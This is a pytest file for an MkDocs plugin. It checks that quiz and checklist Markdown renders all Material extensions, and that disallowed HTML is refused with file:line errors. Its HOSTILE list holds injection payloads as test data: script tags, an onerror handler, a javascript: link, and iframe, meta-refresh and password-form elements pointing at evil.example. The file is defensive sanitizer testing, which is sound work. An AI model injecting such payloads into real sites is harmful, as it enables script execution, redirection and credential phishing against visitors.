"""Markdown inside quiz and checklist files, with every extension Material
for MkDocs documents turned on at once: what Markdown and those extensions
legitimately write comes through; any element outside the allow-list (a
script, a style, a <base>, a frame, a form...) is refused with its
``file:line``, by the build and by ``python -m guidekit check``."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path
from types import SimpleNamespace

import pytest
from mkdocs.structure.files import Files

from guidekit.core.markdown import MarkdownRenderer
from guidekit.core.problems import Problems
from helpers import BuildResult, build, make_project

# Material's reference setup (its "Setup" and "Reference" pages), all at once
ALL_EXTENSIONS = """\
site_name: Every extension
docs_dir: docs
theme: {name: material, font: false}
plugins: [guidekit]
markdown_extensions:
  - abbr
  - admonition
  - attr_list
  - def_list
  - footnotes
  - md_in_html
  - tables
  - toc:
      permalink: true
  - pymdownx.arithmatex:
      generic: true
  - pymdownx.betterem
  - pymdownx.blocks.admonition
  - pymdownx.blocks.caption
  - pymdownx.blocks.details
  - pymdownx.blocks.html
  - pymdownx.blocks.tab:
      alternate_style: true
  - pymdownx.caret
  - pymdownx.critic
  - pymdownx.details
  - pymdownx.emoji:
      emoji_index: !!python/name:material.extensions.emoji.twemoji
      emoji_generator: !!python/name:material.extensions.emoji.to_svg
  - pymdownx.highlight:
      anchor_linenums: true
      line_spans: __span
      pygments_lang_class: true
  - pymdownx.inlinehilite
  - pymdownx.keys
  - pymdownx.magiclink
  - pymdownx.mark
  - pymdownx.smartsymbols
  - pymdownx.snippets
  - pymdownx.superfences:
      custom_fences:
        - name: mermaid
          class: mermaid
          format: !!python/name:pymdownx.superfences.fence_code_format
  - pymdownx.tabbed:
      alternate_style: true
  - pymdownx.tasklist:
      custom_checkbox: true
  - pymdownx.tilde
"""

# Markdown that uses each of them, in an outcome of a quiz
LEGIT = r"""
*[HTML]: HyperText Markup Language

HTML with ^^inserted^^, ==marked==, ~~deleted~~, H~2~O, x^2^, ++ctrl+alt+del++,
{++added++} {--removed--} {~~old~>new~~} {==highlighted==}, :material-heart: and $E = mc^2$
(c) --> 1st[^note].

[^note]: A footnote.

Term
:   Definition.

| Left | Right |
|:-----|------:|
| a    | b     |

- [x] Done
- [ ] To do

!!! note "A note"
    Text in a note.

??? tip "Open me"
    Hidden text.

=== "One"
    First tab.

=== "Two"
    Second tab.

/// details | More
Block details.
///

/// tab | Block tab
Tab text.
///

/// html | div.box
Markdown in a *div* block.
///

/// caption
A caption.
///

```python linenums="1" hl_lines="1"
print("<!-- quiz legit -->")
```

```mermaid
graph LR
  A --> B
```

Inline `#!python x = 1` and www.example.org.
"""

QUIZ = """\
title: Every extension
start: first
questions:
  first:
    text: Pick one
    options:
      - {label: "One", next: done}
      - {label: "Two", next: done}
outcomes:
  done:
    title: Done
    body: |
"""

# (element, or attribute of raw HTML, and Markdown) that no data file may give: each is refused at its line
HOSTILE = [
    ("script", "/// html | script\n__pwned('blocks.html')\n///"),
    ("style", "/// html | style\n* { background: url(https://evil.example/bg) }\n///"),
    ("base", "/// html | base\n    attrs: {href: 'https://evil.example/'}\n///"),
    ("meta", "/// html | meta\n    attrs: {http-equiv: refresh, content: '0;url=https://evil.example/'}\n///"),
    ("link", "/// html | link\n    attrs: {rel: stylesheet, href: 'https://evil.example/x.css'}\n///"),
    ("iframe", "/// html | iframe\n    attrs: {src: 'https://evil.example/'}\n///"),
    ("object", "/// html | object\n    attrs: {data: 'https://evil.example/x.swf'}\n///"),
    ("embed", "/// html | embed\n    attrs: {src: 'https://evil.example/x.swf'}\n///"),
    ("form", "/// html | form\n    attrs: {action: 'https://evil.example/'}\nYour password:\n///"),
    ("template", "/// html | template\nhidden\n///"),
    ("noscript", "/// html | noscript\ntext\n///"),
    ("script", "/// html | svg\n    markdown: block\n\n//// html | script\n__pwned('svg script')\n////\n///"),
    ("foreignobject", "/// html | svg\n    markdown: block\n\n//// html | foreignObject\ntext\n////\n///"),
    ("button", "/// html | button\nClick\n///"),
    # raw HTML kept as it is (stashed, not parsed into the tree): checked as well
    ("script", "/// html | div\n    markdown: html\n\n<script>__pwned('raw html')</script>\n///"),
    ("onerror", "/// html | div\n    markdown: html\n\n<img alt=x onerror=__pwned('raw img')>\n///"),
    ("src", "/// html | div\n    markdown: html\n\n<img src='https://evil.example/pixel.png'>\n///"),
    ("href", "/// html | div\n    markdown: html\n\n<a href='javascript:__pwned()'>x</a>\n///"),
    ("style", "/// html | div\n    markdown: html\n\n<span style='position:fixed'>x</span>\n///"),
]


def check(project: Path) -> BuildResult:
    proc = subprocess.run([sys.executable, "-m", "guidekit", "check", "--strict", str(project)], capture_output=True,
                          text=True, timeout=120, env=dict(os.environ, NO_MKDOCS_2_WARNING="1"))
    return BuildResult(proc.returncode, proc.stdout + proc.stderr, project / "site")


def indent(text: str, spaces: int) -> str:
    return "".join(" " * spaces + line if line.strip() else line for line in text.strip("\n").splitlines(keepends=True)) + "\n"


def test_every_documented_extension_at_once_gives_what_it_should(tmp_path):
    project = make_project(tmp_path, {
        "docs/index.md": "# Home\n\n<!-- quiz legit -->\n",
        "docs/quizzes/legit.yml": QUIZ + indent(LEGIT, 6),
    }, ALL_EXTENSIONS)
    result = build(project)
    assert result.returncode == 0, result.output
    html = result.page("index.html")
    body = html[html.index('data-quiz-outcome="done"'):]
    for element in ["<abbr title=", "<ins>inserted</ins>", "<mark>marked</mark>", "<del>deleted</del>", "<sub>2</sub>",
                    "<sup>2</sup>", '<kbd class="key-control">', '<ins class="critic">', '<span class="twemoji"><svg',
                    '<span class="arithmatex">', "<dl>", "<table>", 'type="checkbox"', '<div class="admonition note">',
                    "<details", 'class="tabbed-set', '<div class="box">', "<figcaption>", 'class="mermaid"',
                    'href="http://www.example.org"', 'class="footnote"']:
        assert element in body, element
    # code that shows a placement is shown, not placed
    assert body.count('data-quiz="legit"') == 0 and "&lt;!-- quiz legit --&gt;" in re.sub(r"<[^>]+>", "", body)
    assert html.count('data-quiz="legit"') == 1


@pytest.fixture(scope="module")
def hostile_results(tmp_path_factory):
    checks = "".join(f"  - id: c{i}\n    label: L\n    manual: true\n    why: |\n{indent(markdown, 6)}"
                     for i, (_, markdown) in enumerate(HOSTILE))
    text = f"title: Hostile blocks\nchecks:\n{checks}"
    project = make_project(tmp_path_factory.mktemp("blocks"), {
        "docs/index.md": "# Home\n\n<!-- checklist blocks -->\n",
        "docs/checklists/blocks.yml": text,
    }, ALL_EXTENSIONS)
    lines = [i for i, line in enumerate(text.splitlines(), 1) if line.strip() == "why: |"]
    return lines, [("mkdocs build", build(project)), ("guidekit check", check(project))]


@pytest.mark.parametrize("index", range(len(HOSTILE)), ids=lambda i: f"{HOSTILE[i][0]}-{i}")
def test_an_element_outside_the_allow_list_is_refused_at_its_line(hostile_results, index):
    lines, results = hostile_results
    element = HOSTILE[index][0]
    for how, result in results:
        assert result.returncode == 1 and "Traceback" not in result.output, (how, result.output)
        expected = f"docs/checklists/blocks.yml:{lines[index]}: " + (
            f"attribute '{element}' is not allowed in guide data" if "markdown: html" in HOSTILE[index][1] and element != "script"
            else f"element '<{element}>' is not allowed in guide data")
        assert expected in result.output, (how, result.output)
    assert not (results[0][1].site_dir / "index.html").exists() or "__pwned" not in results[0][1].page("index.html")


# --- output that does not depend on incidental punctuation ------------------

def renderer(*extensions: str) -> MarkdownRenderer:
    config = SimpleNamespace(markdown_extensions=list(extensions), mdx_configs={}, use_directory_urls=True)
    return MarkdownRenderer(config, Files([]), Problems())


def render(md: MarkdownRenderer, text: str) -> str:
    return str(md.render(text, source="quizzes/q.yml", shown="q.yml", line=1, page_file=None))


def test_smarty_treats_quotes_the_same_whatever_follows():
    md = renderer("smarty")
    plain, bracketed = render(md, 'It\'s a "test"'), render(md, 'It\'s a "test" (really)')
    assert plain == "<p>It&rsquo;s a &ldquo;test&rdquo;</p>"
    assert bracketed == "<p>It&rsquo;s a &ldquo;test&rdquo; (really)</p>"


def test_magiclink_links_an_address_whatever_follows():
    md = renderer("pymdownx.magiclink")
    assert render(md, "www.example.org today") == '<p><a href="http://www.example.org">www.example.org</a> today</p>'
    assert render(md, "www.example.org (today)") == '<p><a href="http://www.example.org">www.example.org</a> (today)</p>'


def test_plain_text_still_comes_out_as_a_paragraph_with_its_characters_escaped():
    md = renderer()
    assert render(md, "Fish & chips") == "<p>Fish &amp; chips</p>"
    assert render(md, "<b>bold</b>") == "<p>&lt;b&gt;bold&lt;/b&gt;</p>"  # raw HTML is shown as text
